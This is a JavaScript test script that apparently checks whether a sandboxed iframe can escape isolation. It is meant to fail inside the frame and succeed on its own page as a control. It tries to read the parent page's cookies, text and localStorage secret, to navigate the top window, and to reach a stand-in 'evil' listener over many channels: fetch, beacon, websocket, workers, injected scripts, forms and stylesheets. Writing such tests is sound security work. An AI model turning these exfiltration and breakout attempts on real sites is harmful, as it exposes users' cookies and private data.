// A work that tries everything. Run in a frame of the site (must fail) and on a page of its own (must succeed: the control).
// The address of the listener and of the site come in the page: <script data-evil=... data-site=... src=attack.js>.
const {evil, site} = document.currentScript.dataset
const told = {}
const element = (name, more) => document.body.appendChild(Object.assign(document.createElement(name), more))
const word = error => error.name || String(error)

function sees(name, look) {
  try { told[name] = String(look()) } catch (error) { told[name] = word(error) }
}

async function reaches(name, go) {
  try { await Promise.race([go(), new Promise(done => setTimeout(done, 400))]) } catch (error) { told[name] = word(error) }
}

sees('parent cookie', () => parent.document.cookie)
sees('parent page', () => parent.document.body.textContent)
sees('parent storage', () => parent.localStorage.secret)
sees('parent address', () => parent.location.href)
sees('top function', () => top.vote())
sees('own cookie', () => document.cookie)
sees('own storage', () => { localStorage.mine = 'kept'; return localStorage.mine + ',' + localStorage.secret })
sees('cookie for all works', () => { document.cookie = 'tossed=1; domain=h5.localhost'; return document.cookie })
sees('frame element', () => window.frameElement)
for (const feature of ['camera', 'microphone', 'geolocation', 'payment', 'clipboard-read', 'usb', 'fullscreen', 'autoplay'])
  sees(feature, () => document.featurePolicy.allowsFeature(feature))
sees('window.open', () => window.open(evil + '/open'))
sees('window.open top', () => window.open(evil + '/open-top', '_top'))
sees('top navigation', () => { top.location = evil + '/top' })
sees('top replace', () => top.location.replace(site + '/replaced'))

;(async () => {
  await reaches('fetch', () => fetch(evil + '/fetch', {mode: 'no-cors'}))
  await reaches('fetch site', () => fetch(site + '/private', {credentials: 'include'}).then(r => r.text()).then(t => { told['fetch site read'] = t }))
  await reaches('xhr', () => new Promise(done => { const x = new XMLHttpRequest(); x.onloadend = done; x.open('GET', evil + '/xhr'); x.send() }))
  await reaches('beacon', () => { navigator.sendBeacon(evil + '/beacon', 'x') })
  await reaches('websocket', () => new Promise(done => { new WebSocket(evil.replace('http', 'ws') + '/websocket').onerror = done }))
  await reaches('eventsource', () => new Promise(done => { new EventSource(evil + '/eventsource').onerror = done }))
  await reaches('import', () => import(evil + '/import.js'))
  await reaches('service worker', () => navigator.serviceWorker.register('sw.js').then(() => { told['service worker'] = 'registered' }))
  await reaches('worker', () => { new Worker(URL.createObjectURL(new Blob([`fetch('${evil}/worker', {mode: 'no-cors'})`]))) })
  await reaches('font', () => new FontFace('x', `url(${evil}/font)`).load())
  element('img', {src: evil + '/img'})
  element('script', {src: evil + '/script'})
  element('iframe', {src: evil + '/iframe'})
  element('iframe', {src: site + '/framed'})
  element('embed', {src: evil + '/embed', type: 'text/html'})
  element('object', {data: evil + '/object', type: 'text/html'})
  element('video', {src: evil + '/video', preload: 'auto'})
  element('link', {rel: 'stylesheet', href: evil + '/stylesheet'})
  element('link', {rel: 'prefetch', href: evil + '/prefetch'})
  element('link', {rel: 'modulepreload', href: evil + '/modulepreload'})
  element('link', {rel: 'preload', as: 'image', href: evil + '/preload'})
  element('link', {rel: 'icon', href: evil + '/icon'})
  element('style', {textContent: `@import '${evil}/style-import'; body { background: url(${evil}/background) }`})
  element('form', {action: evil + '/form', method: 'post', target: element('iframe', {name: 'sink'}).name}).submit()
  element('a', {href: evil + '/blank', target: '_blank', textContent: 'a'}).click()
  await new Promise(done => setTimeout(done, 1500))
  document.body.appendChild(Object.assign(document.createElement('pre'), {id: 'told', textContent: JSON.stringify(told)}))
})()
